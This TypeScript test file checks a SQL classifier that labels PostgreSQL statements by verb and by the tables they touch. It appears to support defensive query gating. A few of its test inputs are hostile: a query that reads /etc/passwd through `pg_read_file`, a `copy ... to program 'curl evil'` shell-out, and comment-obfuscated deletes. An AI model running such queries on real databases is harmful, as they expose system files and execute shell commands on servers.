import { beforeAll, describe, expect, test } from '@jest/globals'
import fc from 'fast-check'
import { SqlUnparseableError } from '../errors.ts'
import { loadSqlParser, type SqlClassifier } from './classify.ts'

let sql: SqlClassifier
beforeAll(async () => {
  sql = await loadSqlParser()
})

const shape = (text: string) =>
  sql.classify(text).map(({ verbs, tables }) => `${verbs.join('+')} ${tables.join(' ')}`.trim())

describe('classify', () => {
  test.each([
    ['select 1', 'Select'],
    ['SELECT * FROM orders', 'Select public.orders'],
    ['select * from "Orders" o join sales.items i on true', 'Select public.Orders sales.items'],
    ['table customers', 'Select public.customers'],
    ['values (1)', 'Select'],
    ['select count(*), lower(name) from a', 'Select public.a'],
    ['select my_function()', 'Select+Call'],
    ["select pg_read_file('/etc/passwd')", 'Select+Call'],
    ["select set_config('search_path', 'x', false)", 'Select+Call+Set'],
    ['select public.lower(a) from a', 'Select+Call public.a'],
    ['select * into copy_of_a from a', 'Select+Define public.copy_of_a public.a'],
    ['insert into a values (1)', 'Select+Insert public.a'],
    ['insert into a default values', 'Insert public.a'],
    ['update a set x = 1 where id in (select id from b)', 'Select+Update public.a public.b'],
    ['delete from only a using b', 'Delete public.a public.b'],
    ['DELETE/**/FROM/**/a', 'Delete public.a'],
    ['merge into a using b on a.i = b.i when matched then delete', 'Merge public.a public.b'],
    ['truncate a, b', 'Truncate public.a public.b'],
    ['with d as (delete from a returning *) select * from d', 'Select+Delete public.a'],
    ['with a as (select * from a) select * from a', 'Select public.a'],
    ['with recursive t as (select 1 union all select * from t) select * from t', 'Select'],
    ['select * from secrets, (with secrets as (select 1) select * from secrets) x', 'Select public.secrets'],
    ['explain select * from a', 'Select public.a'],
    ['explain analyze delete from a', 'Select+Delete public.a'],
    ['prepare p as delete from a', 'Delete public.a'],
    ['execute p', 'Call'],
    ['do $$ begin delete from a; end $$', 'Call'],
    ['call p()', 'Call'],
    ["copy a to program 'curl evil'", 'Copy+Call public.a'],
    ['copy (select * from a) to stdout', 'Select+Copy public.a'],
    ['begin', 'Transaction'],
    ['commit', 'Transaction'],
    ['savepoint s', 'Transaction'],
    ['set search_path = x', 'Set'],
    ['reset all', 'Set'],
    ['discard all', 'Set'],
    ['show server_version', 'Select'],
    ['create table a (i int)', 'Define public.a'],
    ['create table b as select * from a', 'Select+Define public.a public.b'],
    ['alter table a add column x int', 'Define public.a'],
    ['drop table a', 'Define'],
    ['create function f() returns int language sql as $$ select 1 $$', 'Define'],
    ['create index on a (x)', 'Define public.a'],
    ['create view v as select * from a', 'Select+Define public.v public.a'],
    ['grant select on a to b', 'Grant public.a'],
    ['create role r', 'Grant'],
    ['alter role r superuser', 'Grant'],
    ['vacuum a', 'Maintain public.a'],
    ['lock table a', 'Maintain public.a'],
    ["notify c, 'x'", 'Other'],
    ['listen c', 'Other'],
    ['select relname from pg_class', 'Select pg_catalog.pg_class'],
    ['select * from information_schema.tables', 'Select information_schema.tables'],
    ['select * from (select * from (select * from a) x) y', 'Select public.a'],
    ['select exists (select from a where a.i = any (select i from b))', 'Select public.a public.b'],
    ["select U&'\\0041' from a", 'Select public.a'],
    ['select 1 -- delete from a', 'Select'],
    ["select 'delete from a'", 'Select'],
    ['select $$ delete from a $$', 'Select'],
  ])('%s', (text, expected) => {
    expect(shape(text)).toEqual([expected])
  })

  test('each statement of a query is classified on its own', () => {
    expect(shape('select 1; delete from a;; ')).toEqual(['Select', 'Delete public.a'])
    expect(shape('')).toEqual([])
    expect(shape('-- nothing')).toEqual([])
  })

  test('functions that are not known to be pure are named', () => {
    expect(sql.classify("select dblink_exec('x'), s.f(1)")[0]?.functions).toEqual(['dblink_exec', 's.f'])
  })

  test('what the parser refuses is SqlUnparseableError, and its message quotes nothing', () => {
    expect(() => sql.classify('selec secret')).toThrow(SqlUnparseableError)
    expect(() => sql.classify('selec secret')).toThrow(/^(?!.*secret).*$/)
    expect(() => sql.classify('select 1\0')).toThrow(SqlUnparseableError)
  })

  test('no text makes it throw anything else', () => {
    fc.assert(
      fc.property(
        fc.oneof(fc.string(), fc.stringMatching(/^(select|with|delete|from|a|\(|\)|,|'|\$\$|;| |--|\/\*)*$/)),
        (text) => {
          try {
            sql.classify(text)
          } catch (error) {
            expect(error).toBeInstanceOf(SqlUnparseableError)
          }
        },
      ),
      { numRuns: 300 },
    )
  })
})
